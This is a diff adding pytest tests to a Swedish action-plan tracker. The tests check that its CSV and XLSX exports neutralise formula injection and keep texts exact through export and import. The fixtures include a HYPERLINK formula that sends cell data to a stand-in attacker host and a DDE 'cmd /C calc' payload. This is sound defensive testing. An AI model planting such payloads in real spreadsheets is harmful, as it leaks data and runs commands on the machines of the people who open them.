@@ -1,5 +1,9 @@
 from __future__ import annotations
 
+import csv
+import io
+import re
+import zipfile
 from collections.abc import Iterator
 from datetime import date, datetime, timedelta
 from pathlib import Path
@@ -14,7 +18,7 @@ from tracker.app import App
 from tracker.cli import cli
 from tracker.db import make_engine
 from tracker.models import Action, Person
-from tracker.services import actions, exporting, importing, plans
+from tracker.services import actions, exporting, importing, people, plans
 from workflows import default_registry
 
 EXAMPLE = Path(__file__).resolve().parent.parent / "examples" / "pitea-2018.csv"
@@ -205,3 +209,147 @@ def test_xlsx_of_a_plan_without_report_date_imports_back(
     with fresh.transaction() as s:
         result = importing.import_file(s, fresh.registry, first, now=now)
         assert plans.get_plan(s, result.plan_id).next_report_on is None
+
+
+# --- texts a spreadsheet would take for formulas ---------------------------------------------
+
+# What makes Excel, LibreOffice or Google Sheets run a cell (OWASP "CSV injection").
+FORMULA_STARTS = ["=", "+", "-", "@", "\t=", "\r="]
+PLAN_TITLE = '=HYPERLINK("http://angripare.example/?"&A1;"Klicka")'
+
+
+def formula_plan(app: App, now: datetime) -> int:
+    """A plan whose every kind of text starts like a formula, one åtgärd per start."""
+    with app.transaction() as s:
+        plan = plans.create_plan(s, now=now, title=PLAN_TITLE, background="@bakgrund")
+        for i, start in enumerate(FORMULA_STARTS):
+            plain = start.strip()  # titles, texts and names are stored stripped
+            area = plans.ensure_area(s, plan, f"{plain}Område {i}")
+            owner = people.ensure_person(
+                s, f"agare{i}@pitea.example", now=now, name=f"{plain}Ansvarig {i}"
+            )
+            plans.add_action(
+                s,
+                app.registry,
+                area,
+                now=now,
+                text=f"{plain}SUMMA(A{i})",
+                owner=owner,
+                tidsplan=f"{start}Klart till mars 2018",
+                due_on=date(2018, 3, 31),
+                progress_note=f"{plain}cmd|' /C calc'!A0",
+                expected_effect=f"{start}effekt",
+                follow_up=f"{start}uppföljning",
+                target_group=f"{start}grupp",
+            )
+        assert plan.id is not None
+        return plan.id
+
+
+def table_texts(app: App, plan_id: int) -> list[str]:
+    """Every text of the plan's åtgärder the export writes, as stored."""
+    texts = []
+    with Session(app.engine) as s:
+        for area, rows in plans.plan_areas(s, plan_id):
+            for action, owner in rows:
+                assert owner is not None
+                texts += [area.title, action.text, owner.name, action.tidsplan]
+                texts += [action.progress_note, action.expected_effect]
+                texts += [action.follow_up, action.target_group]
+    return texts
+
+
+def csv_rows(path: Path) -> list[list[str]]:
+    text = path.read_bytes().decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
+
+
+def line_breaks(value: Any) -> Any:
+    """A carriage return as the line break every import reads it as."""
+    return value.replace("\r", "\n") if isinstance(value, str) else value
+
+
+def test_xlsx_export_writes_formula_like_texts_as_strings_never_as_formulas(
+    app: App, now: datetime, tmp_path: Path
+) -> None:
+    plan_id = formula_plan(app, now)
+    out = tmp_path / "plan.xlsx"
+    export(app, plan_id, out)
+
+    with zipfile.ZipFile(out) as z:
+        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
+    assert len(sheets) == 2
+    assert not [xml for xml in sheets if re.search(r"<f[ >]", xml)]
+    content = xlsx_content(out)
+    cells = {v for row in content["Åtgärder"] for v in row}
+    texts = table_texts(app, plan_id)
+    assert len(texts) == 8 * len(FORMULA_STARTS)
+    assert set(texts) <= cells
+    meta = dict(content["Plan"][1:])
+    assert (meta["Titel"], meta["Bakgrund"]) == (PLAN_TITLE, "@bakgrund")
+
+
+def test_csv_export_puts_a_quote_before_every_formula_like_text(
+    app: App, now: datetime, tmp_path: Path
+) -> None:
+    plan_id = formula_plan(app, now)
+    out = tmp_path / "plan.csv"
+    export(app, plan_id, out)
+
+    fields = {f for row in csv_rows(out) for f in row if f}
+    assert not [f for f in fields if f[0] in "=+-@\t\r"]
+    assert {"'" + t for t in table_texts(app, plan_id)} <= fields
+
+
+@pytest.mark.parametrize("kind", ["csv", "xlsx"])
+def test_formula_like_texts_survive_export_import_export_exactly(
+    app: App, fresh: App, now: datetime, tmp_path: Path, kind: str
+) -> None:
+    """From a plan made in one database, exported, imported into an empty one (SQLite and
+    PostgreSQL) and exported again: the same texts, without a quote or a formula added."""
+    plan_id = formula_plan(fresh, now)
+    first = tmp_path / "a" / f"plan.{kind}"
+    first.parent.mkdir()
+    export(fresh, plan_id, first)
+
+    with app.transaction() as s:
+        result = importing.import_file(s, app.registry, first, now=now)
+    second = tmp_path / "b" / f"plan.{kind}"
+    second.parent.mkdir()
+    export(app, result.plan_id, second)
+
+    expected = [line_breaks(t) for t in table_texts(fresh, plan_id)]
+    assert table_texts(app, result.plan_id) == expected
+    with Session(app.engine) as s:
+        assert plans.get_plan(s, result.plan_id).title == PLAN_TITLE
+    if kind == "csv":
+        assert csv_rows(second) == [[line_breaks(f) for f in row] for row in csv_rows(first)]
+    else:
+        assert xlsx_content(second) == {
+            name: [tuple(line_breaks(v) for v in row) for row in rows]
+            for name, rows in xlsx_content(first).items()
+        }
+
+
+def test_control_characters_pasted_into_a_text_do_not_stop_the_xlsx_export(
+    app: App, now: datetime, tmp_path: Path
+) -> None:
+    """XML cannot carry them: left out of the workbook, kept in the database and the CSV."""
+    with app.transaction() as s:
+        plan = plans.create_plan(s, now=now, title="Plan\x0b med styrtecken")
+        area = plans.ensure_area(s, plan, "Område")
+        plans.add_action(
+            s, app.registry, area, now=now, text="Rutin\x0cer", progress_note="Klart\x1b[0m."
+        )
+        plan_id = plan.id
+    assert plan_id is not None
+    out = tmp_path / "plan.xlsx"
+    export(app, plan_id, out)
+
+    content = xlsx_content(out)
+    header, row = content["Åtgärder"]
+    got = dict(zip(header, row, strict=True))
+    assert (got["Åtgärd"], got["Processläge"]) == ("Rutiner", "Klart[0m.")
+    assert dict(content["Plan"][1:])["Titel"] == "Plan med styrtecken"
+    export(app, plan_id, tmp_path / "plan.csv")
+    assert "Rutin\x0cer" in csv_rows(tmp_path / "plan.csv")[1]
